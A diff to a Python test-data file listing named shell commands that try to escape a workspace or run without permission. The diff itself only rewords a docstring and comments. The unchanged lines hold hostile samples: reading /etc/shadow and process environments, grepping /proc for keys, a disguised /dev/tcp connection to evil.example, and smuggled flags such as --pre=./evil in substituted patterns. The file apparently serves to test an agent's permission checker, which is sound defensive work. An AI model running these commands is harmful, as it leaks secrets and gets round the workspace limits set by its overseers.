@@ -1,4 +1,4 @@
-"""Attempts to write, run or leave the workspace without a question, each with a name."""
+"""Attempts to write, run programs or leave the workspace without permission, by name."""
 
 ATTEMPTS: dict[str, str] = {
     # redirects
@@ -316,7 +316,7 @@ ATTEMPTS: dict[str, str] = {
     "variation selector": "cat a\ufe0f",
     "private character": "cat \ue000",
     "half a character": "cat \ud800",
-    # folders
+    # directories
     "home of others": "cat ~root/.bashrc",
     "last folder": "cat ~-/x",
     "back to the last folder": "cd -; cat x",
@@ -325,7 +325,7 @@ ATTEMPTS: dict[str, str] = {
     "cd with flags": "cd -P a && cat x",
     "pushd": "pushd /etc; cat shadow",
     "chroot": "chroot / ls",
-    # what is no ordinary file
+    # special files
     "own environment": "cat /proc/self/environ",
     "environment of others": "cat /proc/1/environ",
     "environments by a pattern": "cat /proc/*/environ",
@@ -347,7 +347,7 @@ ATTEMPTS: dict[str, str] = {
     "connection quoted": "cat < '/dev/tc'p/evil.example/80",
     "terminal": "cat /dev/tty",
     "search of processes": "grep -r KEY /proc",
-    # what is only known when it runs
+    # only known at run time
     "flag before a pattern": 'rg "$(echo --pre=./ev)il" a',
     "flag before a pattern of grep": 'grep "$(echo -f.env)x" a',
     "flag from a status": "sort x$?",
